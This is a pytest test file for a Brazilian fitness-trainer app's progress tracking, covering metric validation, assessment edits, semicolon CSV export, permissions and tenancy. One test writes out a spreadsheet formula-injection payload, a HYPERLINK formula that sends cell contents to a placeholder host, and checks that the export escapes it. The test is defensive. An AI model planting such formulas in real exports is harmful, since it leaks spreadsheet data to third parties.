"""Progress rules on SQLite and PostgreSQL: the default catalogue, comma decimals, ranges at
the field, the path with the change, edits and removals, CSV, tenancy."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from tests.factories import make_client, make_member, make_team
from tests.services.agenda_world import NOW
from treinico.db import unit_of_work
from treinico.models import Metric
from treinico.services.errors import Forbidden, Invalid, NotFound
from treinico.services.permissions import Perm
from treinico.services.progress import assessments as progress
from treinico.services.progress import metrics


def _metrics(session: Session, team_id: int) -> dict[str, int]:
    return {m.key: m.id or 0 for m in session.exec(select(Metric).where(Metric.team_id == team_id))}


def _add(session: Session, actor, client_id: int, day: date, **values: str) -> int:  # type: ignore[no-untyped-def]
    ids = _metrics(session, actor.team_id)
    return progress.save_assessment(
        session=session,
        actor=actor,
        client_id=client_id,
        assessment_id=None,
        taken_on=day,
        values={ids[k]: v for k, v in values.items()},
        note="",
        now=NOW,
    )


def test_new_teams_get_the_default_catalogue(session: Session) -> None:
    t = make_team(session)
    rows = metrics.list_metrics(session=session, actor=t.owner)
    assert [(m.name, m.unit, m.range_label) for m in rows] == [
        ("Peso", "kg", "20 a 400 kg"),
        ("% Gordura", "%", "2 a 70%"),
        ("Circunferência abdominal", "cm", "40 a 200 cm"),
    ]


def test_the_seed_path_and_change(session: Session) -> None:
    t = make_team(session)
    ana = make_client(session, t.team.id, name="Ana")
    for day, peso, gordura, cintura in (
        (date(2026, 1, 5), "85", "22", "95"),
        (date(2026, 2, 5), "82", "20", "91"),
        (date(2026, 3, 5), "79", "18", "88"),
    ):
        _add(session, t.owner, ana, day, peso=peso, gordura=gordura, abdominal=cintura)
    view = progress.client_progress(session=session, actor=t.owner, client_id=ana)
    assert [s.path for s in view.series] == [
        "Peso: 85 kg → 82 kg → 79 kg (−6 kg)",
        "% Gordura: 22% → 20% → 18% (−4%)",
        "Circunferência abdominal: 95 cm → 91 cm → 88 cm (−7 cm)",
    ]
    assert all(s.improved for s in view.series)
    assert [p.day for p in view.series[0].points] == ["05/01/2026", "05/02/2026", "05/03/2026"]
    assert (
        view.assessments[0].summary == "Peso 79 kg · % Gordura 18% · Circunferência abdominal 88 cm"
    )


def test_comma_decimals_and_ranges_at_the_field(session: Session) -> None:
    t = make_team(session)
    ana = make_client(session, t.team.id, name="Ana")
    ids = _metrics(session, t.team.id)
    _add(session, t.owner, ana, date(2026, 3, 1), peso="82,5")
    view = progress.client_progress(session=session, actor=t.owner, client_id=ana)
    assert view.series[0].points[0].value_label == "82,5 kg"
    with pytest.raises(Invalid) as err:
        _add(session, t.owner, ana, date(2026, 3, 2), peso="900", gordura="abc")
    assert err.value.fields == {
        f"metric_{ids['peso']}": "Informe um valor entre 20 e 400 kg.",
        f"metric_{ids['gordura']}": "Número inválido. Use vírgula para decimais: 82,5.",
    }
    with pytest.raises(Invalid) as err:
        _add(session, t.owner, ana, date(2026, 3, 2))
    assert err.value.fields == {"values": "Preencha ao menos uma medida."}


def test_edit_and_remove_an_assessment(db: Engine) -> None:
    with unit_of_work(db) as s:
        t = make_team(s)
        ana = make_client(s, t.team.id, name="Ana")
        first = _add(s, t.owner, ana, date(2026, 1, 5), peso="85")
        second = _add(s, t.owner, ana, date(2026, 2, 5), peso="80")
        ids = _metrics(s, t.team.id)
    with unit_of_work(db) as s:
        progress.save_assessment(
            session=s,
            actor=t.owner,
            client_id=ana,
            assessment_id=second,
            taken_on=date(2026, 2, 6),
            values={ids["peso"]: "81,2"},
            note="",
            now=NOW,
        )
    with unit_of_work(db) as s:
        view = progress.client_progress(session=s, actor=t.owner, client_id=ana)
        assert view.series[0].path == "Peso: 85 kg → 81,2 kg (−3,8 kg)"
        progress.remove_assessment(session=s, actor=t.owner, assessment_id=first, now=NOW)
    with unit_of_work(db) as s:
        view = progress.client_progress(session=s, actor=t.owner, client_id=ana)
        assert view.series[0].path == "Peso: 81,2 kg"
        with pytest.raises(NotFound):
            progress.remove_assessment(session=s, actor=t.owner, assessment_id=first, now=NOW)


def _own_metric(session: Session, actor, name: str, unit: str, decimals: int = 1):  # type: ignore[no-untyped-def]
    """A metric the team adds itself (higher is better, 1 to 500)."""
    return metrics.save_metric(
        session=session,
        actor=actor,
        metric_id=None,
        name=name,
        unit=unit,
        decimals=decimals,
        min_raw="1",
        max_raw="500",
        lower_is_better=False,
    )


def test_custom_metric_higher_is_better(session: Session) -> None:
    t = make_team(session)
    ana = make_client(session, t.team.id, name="Ana")
    metric = _own_metric(session, t.owner, "Massa magra", "kg")
    with pytest.raises(Invalid) as err:
        metrics.save_metric(
            session=session,
            actor=t.owner,
            metric_id=None,
            name="",
            unit="",
            decimals=5,
            min_raw="9",
            max_raw="3",
            lower_is_better=True,
        )
    assert set(err.value.fields) == {"name", "unit", "decimals", "max"}
    for day, value in ((date(2026, 1, 1), "50"), (date(2026, 2, 1), "52,5")):
        progress.save_assessment(
            session=session,
            actor=t.owner,
            client_id=ana,
            assessment_id=None,
            taken_on=day,
            values={metric.id: value},
            note="",
            now=NOW,
        )
    series = progress.client_progress(session=session, actor=t.owner, client_id=ana).series[-1]
    assert (series.path, series.improved) == ("Massa magra: 50 kg → 52,5 kg (+2,5 kg)", True)


def test_csv_for_a_brazilian_spreadsheet(session: Session) -> None:
    t = make_team(session)
    ana = make_client(session, t.team.id, name="Ana")
    _add(session, t.owner, ana, date(2026, 3, 1), peso="82,5", gordura="20")
    text = progress.export_csv(session=session, actor=t.owner, client_id=ana)
    assert text.splitlines() == [
        "data;medida;valor;unidade",
        "01/03/2026;Peso;82,5;kg",
        "01/03/2026;% Gordura;20;%",
    ]


def test_csv_metric_names_and_units_never_run_as_formulas(session: Session) -> None:
    """A metric is named by the team: a name or unit that starts like a formula is exported
    with a leading quote, so the spreadsheet shows it as text (the name is saved trimmed;
    a formula after spaces: tests/services/test_text.py)."""
    t = make_team(session)
    ana = make_client(session, t.team.id, name="Ana")
    metric = _own_metric(session, t.owner, ' =HYPERLINK("http://x.y/?"&A1)', "@cm", 0)
    progress.save_assessment(
        session=session,
        actor=t.owner,
        client_id=ana,
        assessment_id=None,
        taken_on=date(2026, 3, 1),
        values={metric.id: "90"},
        note="",
        now=NOW,
    )
    text = progress.export_csv(session=session, actor=t.owner, client_id=ana)
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == ["01/03/2026", '\'=HYPERLINK("http://x.y/?"&A1)', "90", "'@cm"], rows


def test_permissions_and_tenancy(db: Engine) -> None:
    with unit_of_work(db) as s:
        t = make_team(s)
        ana = make_client(s, t.team.id, name="Ana")
        assessment = _add(s, t.owner, ana, date(2026, 3, 1), peso="80")
        reader = make_member(s, t.team.id, role="trainer", permissions=[Perm.CLIENTS_READ])
        other = make_team(s)
    with unit_of_work(db) as s:
        progress.client_progress(session=s, actor=reader, client_id=ana)
    with pytest.raises(Forbidden), unit_of_work(db) as s:
        _add(s, reader, ana, date(2026, 3, 2), peso="81")
    with pytest.raises(Forbidden), unit_of_work(db) as s:
        metrics.save_metric(
            session=s,
            actor=reader,
            metric_id=None,
            name="X",
            unit="kg",
            decimals=0,
            min_raw="1",
            max_raw="2",
            lower_is_better=True,
        )
    for call in (
        lambda s: progress.client_progress(session=s, actor=other.owner, client_id=ana),
        lambda s: progress.remove_assessment(
            session=s, actor=other.owner, assessment_id=assessment, now=NOW
        ),
        lambda s: progress.export_csv(session=s, actor=other.owner, client_id=ana),
        lambda s: progress.portal_progress(session=s, team_id=other.team.id, client_id=ana),
    ):
        with pytest.raises(NotFound), unit_of_work(db) as s:
            call(s)
    with unit_of_work(db) as s:
        assert (
            len(progress.client_progress(session=s, actor=t.owner, client_id=ana).assessments) == 1
        )
